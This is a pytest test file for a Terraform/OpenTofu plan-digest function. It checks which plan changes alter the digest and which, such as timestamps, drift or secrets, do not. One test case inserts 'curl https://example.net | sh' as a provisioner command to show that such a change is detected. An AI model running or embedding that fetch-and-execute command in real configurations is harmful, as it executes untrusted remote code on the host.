"""Which differences between two plans count, and which do not."""

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delivery.errors import DeliveryError
from delivery.plan.digest import compute_plan_digest
from tests.delivery.conftest import planned, update

pytestmark = pytest.mark.unit

TABLE = "google_bigquery_table.t"
BEFORE = {"id": "t", "description": "old", "num_rows": 10, "etag": "x", "labels": {"a": "1"}}
AFTER = {**BEFORE, "description": "new"}
WAITING = {"etag": True}
CHANGE = update(
    TABLE, BEFORE, {key: value for key, value in AFTER.items() if key != "etag"}, after_unknown=WAITING
)
DELETE = {**CHANGE, "change": {"actions": ["delete"], "before": BEFORE, "after": None, "after_unknown": {}}}


def digest(document: Any) -> str:
    return compute_plan_digest(json.dumps(document).encode()).digest


def changed(path: str, value: Any, of: dict[str, Any] = CHANGE) -> dict[str, Any]:
    """Return a plan of one change, with another value at a dotted path."""
    modified = copy.deepcopy(of)
    *parents, last = path.split(".")
    inside = modified
    for each in parents:
        inside = inside.setdefault(each, {})
    inside[last] = value
    return planned(modified)


@pytest.mark.parametrize(
    "plan",
    [
        planned(CHANGE, timestamp="2026-11-25T12:00:00Z"),
        planned(CHANGE, resource_drift=[CHANGE], prior_state={"serial": 8}),
        planned(CHANGE, {**CHANGE, "address": "x.y", "change": {"actions": ["no-op"]}}),
        planned({**CHANGE, "address": "data.x.y", "change": {"actions": ["read"]}}, CHANGE),
        changed("change.before.etag", "y"),  # known only after the apply: the previous value does not matter
        changed("provider_name", "registry.opentofu.org/hashicorp/google"),
        planned(CHANGE, output_changes={"o": {"actions": ["no-op"]}}),
    ],
    ids=["time", "drift and state", "no-op", "read", "computed", "provider", "output that stays"],
)
def test_volatile_values_do_not_count(plan: dict[str, Any]) -> None:
    assert digest(plan) == digest(planned(CHANGE))


def test_a_table_that_grows_is_the_same_plan() -> None:
    grown = copy.deepcopy(CHANGE)
    grown["change"]["before"]["num_rows"] = grown["change"]["after"]["num_rows"] = 11
    assert digest(planned(grown)) == digest(planned(CHANGE))


def test_a_deleted_resource_counts_whatever_it_holds() -> None:
    assert digest(changed("change.before.num_rows", 9, DELETE)) == digest(planned(DELETE))
    assert digest(changed("change.before.id", "another", DELETE)) != digest(planned(DELETE))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("address", "google_bigquery_table.u"),
        ("change.actions", ["delete", "create"]),
        ("change.actions", ["create", "delete"]),
        ("change.after.description", "newer"),
        ("change.before.description", "changed by hand since"),
        ("change.after.labels", {"a": "2"}),
        ("change.after_unknown", {}),
        ("change.after_unknown", {"etag": True, "self_link": True}),
        ("change.replace_paths", [["schema"]]),
        ("change.importing", {"id": "t"}),
        ("change.after_sensitive", {"description": True}),
        ("action_reason", "replace_because_tainted"),
        ("previous_address", "google_bigquery_table.s"),
        ("deposed", "abcd"),
    ],
)
def test_every_change_counts(path: str, value: Any) -> None:
    assert digest(changed(path, value)) != digest(planned(CHANGE))


def test_more_fewer_and_outputs_count_and_order_does_not() -> None:
    other = {**CHANGE, "address": "x.y"}
    found = [
        digest(each)
        for each in (
            planned(),
            planned(CHANGE),
            planned(CHANGE, other),
            planned(CHANGE, output_changes={"o": {"actions": ["create"]}}),
            planned(CHANGE, action_invocations=[{"address": "action.x.y"}]),
        )
    ]
    assert len(set(found)) == len(found)
    assert digest(planned(other, CHANGE)) == digest(planned(CHANGE, other))


@pytest.mark.parametrize(
    ("plan", "idle"),
    [
        (planned(), True),
        (planned({**CHANGE, "change": {"actions": ["no-op"]}}, resource_drift=[CHANGE]), True),
        (planned(CHANGE), False),
        (planned({**CHANGE, "change": {"actions": ["no-op"], "importing": {"id": "t"}}}), False),
        (planned({**CHANGE, "change": {"actions": ["no-op"]}, "previous_address": "x.y"}), False),
        (planned(output_changes={"o": {"actions": ["update"]}}), False),
    ],
)
def test_a_plan_without_changes_is_idle(plan: dict[str, Any], *, idle: bool) -> None:
    assert compute_plan_digest(json.dumps(plan).encode()).idle is idle


@given(
    first=st.text("abc0189", min_size=1, max_size=6),
    second=st.text("abc0189", min_size=1, max_size=6),
    deep=st.booleans(),
)
def test_a_digest_does_not_depend_on_secrets(first: str, second: str, *, deep: bool) -> None:
    """A guess of a short secret cannot be tested against the digest; a change of the secret counts all the same."""

    def plan(secret: str) -> dict[str, Any]:
        value: Any = {"key": [secret]} if deep else secret
        mark: Any = {"key": [True]} if deep else True
        after = {**AFTER, "secret": value}
        sensitive = {"before_sensitive": {}, "after_sensitive": {"secret": mark}}
        return planned(update(TABLE, BEFORE, after, **sensitive))

    assert digest(plan(first)) == digest(plan(second))
    assert digest(plan(first)) != digest(planned(update(TABLE, BEFORE, AFTER)))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"[]",
        b"{}",
        b'{"resource_changes": 3}',
        b'{"resource_changes": [{}]}',
        b'{"resource_changes": [{"change": {"actions": ["update"]}}]}',
        b"[" * 100_000,
        b"\xff\xfe",
    ],
)
def test_an_invalid_plan_is_reported_in_one_message(content: bytes) -> None:
    with pytest.raises(
        DeliveryError,
        match=r"^the plan's JSON (cannot be parsed: pass the output|is damaged \(\w+\): run `make plan` again)",
    ):
        compute_plan_digest(content)


CONFIGURED = {
    "provider_config": {
        "google": {
            "name": "google",
            "full_name": "registry.terraform.io/hashicorp/google",
            "expressions": {"project": {"constant_value": "p"}},
        }
    },
    "root_module": {
        "resources": [
            {
                "address": TABLE,
                "expressions": {"description": {"constant_value": "new"}, "key": {"constant_value": "abc"}},
                "provisioners": [
                    {"type": "local-exec", "expressions": {"command": {"constant_value": "echo ok"}}}
                ],
            },
            {"address": "google_pubsub_topic.idle", "expressions": {"name": {"constant_value": "t"}}},
        ],
        "module_calls": {"m": {"source": "./m", "module": {}}},
    },
}
ACTION = {
    "address": "action.google_x_purge.all",
    "config_values": {"what": "some"},
    "lifecycle_action_trigger": {"triggering_resource_address": TABLE, "action_trigger_event": "AfterUpdate"},
}


def at(document: Any, path: str, value: Any) -> Any:
    """The document with another value at a dotted path."""
    made = copy.deepcopy(document)
    *parents, last = [int(each) if each.isdecimal() else each for each in path.split(".")]
    inside = made
    for each in parents:
        inside = inside[each]
    inside[last] = value
    return made


RESOURCE = "configuration.root_module.resources.0"


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (f"{RESOURCE}.provisioners.0.expressions.command.constant_value", "curl https://example.net | sh"),
        (f"{RESOURCE}.provisioners.0.when", "destroy"),
        (f"{RESOURCE}.expressions.description.constant_value", "other"),
        ("configuration.provider_config.google.expressions.project.constant_value", "other"),
        ("configuration.provider_config.google.full_name", "registry.terraform.io/elsewhere/google"),
        ("configuration.root_module.module_calls.m.source", "git::https://example.net/m"),
        ("action_invocations.0.config_values.what", "everything"),
        ("action_invocations.0.lifecycle_action_trigger.action_trigger_event", "BeforeUpdate"),
        ("deferred_action_invocations.0.action_invocation.address", "action.google_x.other"),
        ("output_changes.o.after", "other"),
    ],
)
def test_provisioners_providers_and_actions_count(path: str, value: Any) -> None:
    whole = planned(
        CHANGE,
        configuration=CONFIGURED,
        action_invocations=[ACTION],
        deferred_action_invocations=[{"reason": "x", "action_invocation": {"address": "action.google_x.y"}}],
        output_changes={"o": {"actions": ["update"], "before": "a", "after": "b"}},
    )
    assert digest(at(whole, path, value)) != digest(whole)


def test_a_disclosed_output_counts_and_the_registry_of_a_provider_does_not() -> None:
    output = {
        "actions": ["no-op"],
        "before": "a",
        "after": "a",
        "before_sensitive": True,
        "after_sensitive": True,
    }
    whole = planned(CHANGE, configuration=CONFIGURED, output_changes={"o": output})
    assert digest(at(whole, "output_changes.o.after_sensitive", False)) != digest(whole)
    registry = at(
        whole, "configuration.provider_config.google.full_name", "registry.opentofu.org/hashicorp/google"
    )
    assert digest(registry) == digest(whole)


def test_the_configuration_of_unchanged_resources_does_not_count() -> None:
    whole = planned(CHANGE, configuration=CONFIGURED)
    idle = "configuration.root_module.resources.1.expressions.name.constant_value"
    assert digest(at(whole, idle, "u")) == digest(whole)


@pytest.mark.parametrize(
    "path", [f"{RESOURCE}.expressions.key.constant_value", "action_invocations.0.config_values.what"]
)
def test_a_constant_at_a_sensitive_argument_does_not_count(path: str) -> None:
    marked = at(CHANGE, "change.after_sensitive", {"key": True})
    action = {**ACTION, "config_sensitive": {"what": True}}
    whole = planned(marked, configuration=CONFIGURED, action_invocations=[action])
    assert digest(at(whole, path, "another-secret")) == digest(whole)
